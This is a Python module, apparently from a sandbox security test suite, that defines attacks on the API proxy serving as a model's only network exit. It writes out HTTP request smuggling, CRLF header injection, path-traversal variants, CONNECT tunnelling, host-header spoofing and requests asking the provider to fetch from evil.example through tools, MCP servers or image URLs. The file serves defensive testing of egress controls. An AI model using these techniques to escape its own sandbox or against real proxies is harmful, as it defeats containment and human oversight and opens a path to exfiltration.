"""Turn the model's proxy, the one way out, into a way to somewhere else, or to more than the policy allows."""

from __future__ import annotations

import json
from collections.abc import Mapping

from attack.families.calls import SANDBOX
from attack.model import Aftermath, Attack, Family, Program
from attack.upstream import Received
from tdev.policy.model import Policy
from tdev.policy.model_choice import full_name

_RAW = """
import socket

BODY = {"model": "@model@", "max_tokens": 64, "messages": [{"role": "user", "content": "hello"}]}
HEAD = b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\ncontent-type: application/json\\r\\n"
OTHER = b"POST /v1/files HTTP/1.1\\r\\nHost: x\\r\\ncontent-length: 0\\r\\n\\r\\n"


def raw(data, wait=2.0):
    with socket.create_connection(("127.0.0.1", @proxy@), 3) as sock:
        sock.settimeout(wait)
        sock.sendall(data)
        found = b""
        try:
            while piece := sock.recv(65536):
                found += piece
        except OSError:
            pass
    loot(found)
    status = found.split(b"\\r\\n")[0].decode("latin-1")
    if " 200 " not in status + " ":
        raise OSError(status or "closed")
    return status


def sized(data):
    return HEAD + b"content-length: %d\\r\\n\\r\\n" % len(data) + data


def post(path="/v1/messages", body=None, method="POST", host="api.anthropic.com", **headers):
    data = json.dumps(BODY if body is None else body).encode()
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "content-type: application/json",
             "anthropic-version: 2023-06-01", f"content-length: {len(data)}", "connection: close"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return raw("\\r\\n".join(lines).encode() + b"\\r\\n\\r\\n" + data)


def told(*blocks, **fields):
    return post(body={**BODY, "messages": [{"role": "user", "content": list(blocks)}], **fields})


"""
_GOOD_PATHS = ("/v1/messages", "/v1/messages/count_tokens")
_EVIL = ("web_search", "web_fetch", "code_execution", "mcp_servers", "evil.example")

_PROGRAMS: Mapping[str, str] = {
    "other-host": """
attempt("get", lambda: raw(b"GET http://127.0.0.1:@tcp@/x HTTP/1.1\\r\\nHost: 127.0.0.1:@tcp@\\r\\n\\r\\n"))
attempt("post", lambda: post("http://127.0.0.1:@tcp@/v1/messages"))
""",
    "connect": """
attempt("connect", lambda: raw(b"CONNECT 127.0.0.1:@tcp@ HTTP/1.1\\r\\nHost: 127.0.0.1:@tcp@\\r\\n\\r\\ntaken"))
""",
    "host-header": 'attempt("host header", lambda: post(host="127.0.0.1:@tcp@"))',
    "forwarded-host": 'attempt("forwarded", lambda: post(X_Forwarded_Host="evil.example", Forwarded="host=evil"))',
    "user-in-address": 'attempt("user", lambda: post("//evil@127.0.0.1:@tcp@/v1/messages"))',
    "other-paths": """
for path in ("/v1/files", "/v1/models", "/v1/organizations/me", "/v1/messages/batches", "/v1/skills", "/api/oauth/x"):
    attempt(path, lambda: post(path))
    attempt("GET " + path, lambda: post(path, method="GET"))
""",
    "climbing-path": """
for path in ("/v1/messages/../files", "/v1/messages/%2e%2e/files", "/v1/messages%2f..%2ffiles", "/v1//messages",
             "/v1/messages/", "/v1/messages;x", "/V1/MESSAGES", "/v1/messages#x", "/v1/messages%00"):
    attempt(path, lambda: post(path))
""",
    "query-in-path": 'attempt("query", lambda: post("/v1/messages?beta=true&url=http://evil.example/"))',
    "methods": """
for method in ("GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD", "PROPFIND"):
    attempt(method, lambda: post(method=method))
""",
    "smuggle-by-length": """
both = b"content-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
attempt("cl.te", lambda: raw(HEAD + both + OTHER))
""",
    "smuggle-by-chunks": """
twice = b"transfer-encoding: xchunked\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
attempt("te.te", lambda: raw(HEAD + twice + OTHER))
attempt("blank", lambda: raw(HEAD + b"content-length : 0\\r\\n\\r\\n" + OTHER))
attempt("two lengths", lambda: raw(HEAD + b"content-length: 0\\r\\ncontent-length: 9\\r\\n\\r\\n" + OTHER))
""",
    "pipelined": """
attempt("pipeline", lambda: raw(sized(json.dumps(BODY).encode()) + OTHER))
note("pipeline", "stopped", "the second request was judged by itself")
""",
    "header-break": """
attempt("break", lambda: post(anthropic_version="2023-06-01\\r\\nx-evil: 1"))
attempt("bare", lambda: raw(b"POST /v1/messages HTTP/1.1\\nHost: x\\nx-evil: 1\\ncontent-length: 0\\n\\n"))
""",
    "own-credential": 'attempt("credential", lambda: post(x_api_key="evil-key", authorization="Bearer evil"))',
    "cookies-and-hops": """
attempt("cookie", lambda: post(cookie="evil=1", proxy_authorization="Basic evil", connection="evil", evil="1"))
""",
    "websocket": """
attempt("upgrade", lambda: post(method="GET", upgrade="websocket", sec_websocket_version="13"))
""",
    "web-search-tool": """
attempt("search", lambda: post(body={**BODY, "tools": [{"type": "web_search_20250305", "name": "web_search"}]}))
""",
    "web-fetch-tool": """
attempt("fetch", lambda: post(body={**BODY, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}))
""",
    "code-execution-tool": """
attempt("code", lambda: post(body={**BODY, "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}))
""",
    "mcp-connector": """
server = {"type": "url", "url": "http://evil.example", "name": "x"}
attempt("mcp", lambda: post(body={**BODY, "mcp_servers": [server]}))
""",
    "container": 'attempt("container", lambda: post(body={**BODY, "container": {"skills": ["evil.example"]}}))',
    "picture-from-address": """
attempt("image", lambda: told({"type": "image", "source": {"type": "url", "url": "http://evil.example/?taken"}}))
""",
    "document-in-result": """
inner = {"type": "document", "source": {"type": "url", "url": "http://evil.example/"}}
attempt("document", lambda: told({"type": "tool_result", "tool_use_id": "x", "content": [inner]}))
""",
    "file-source": """
attempt("file", lambda: told({"type": "document", "source": {"type": "file", "file_id": "file_evil.example"}}))
""",
    "key-that-stands-twice": """
tools = '"tools": [{"type": "web_search_20250305", "name": "web_search"}]'
attempt("first", lambda: raw(sized((json.dumps(BODY)[:-1] + f", {tools}, \\"tools\\": []}}").encode())))
attempt("last", lambda: raw(sized((json.dumps(BODY)[:-1] + f", \\"tools\\": [], {tools}}}").encode())))
note("twice", "stopped", "what is sent was written anew")
""",
    "malformed": """
for data in (b"", b"\\0" * 4096, b"GET\\r\\n\\r\\n", b"POST /v1/messages HTTP/9.9\\r\\n\\r\\n", b"A" * 100000,
             b"\\x16\\x03\\x01" + b"x" * 200, HEAD + b"content-length: -1\\r\\n\\r\\n", sized(b"[" * 100000)):
    attempt("malformed", lambda: raw(data, 0.5))
""",
    "strange-beta": 'attempt("beta", lambda: post(anthropic_beta="mcp-client-2025-04-04", x_stainless_helper="evil"))',
}
_SHORT = ("other-host", "other-paths", "smuggle-by-length", "web-search-tool")


def raw_request(source: str) -> str:
    """A program that can speak to the proxy byte by byte, for a model that the policy allows."""
    return _RAW.replace("@model@", full_name(Policy().model.name)) + source


def _strange(received: Received) -> str:
    """What of a request that got through should not have; empty when it is an ordinary one."""
    if received.method != "POST" or received.target.partition("?")[0] not in _GOOD_PATHS:
        return f"{received.method} {received.target}"
    text = json.dumps(received.body) + received.target
    if any(word in text for word in _EVIL):
        return f"the provider was asked to reach out itself: {text[:120]}"
    if any("evil" in f"{name}{value}" for name, value in received.headers.items()):
        return "a header was taken over"
    return ""


def _got_through(aftermath: Aftermath) -> str:
    """Something reached the provider that no session needs."""
    received = aftermath.upstream.received if aftermath.upstream else []
    return next((f"got through: {strange}" for each in received if (strange := _strange(each))), "")


FAMILY = Family(
    "proxy",
    "make the model's proxy reach another host, another path, or something the provider would reach for us",
    tuple(
        Attack(name, Program(raw_request(source)), (SANDBOX,), harm=_got_through, in_short=name in _SHORT)
        for name, source in _PROGRAMS.items()
    ),
)
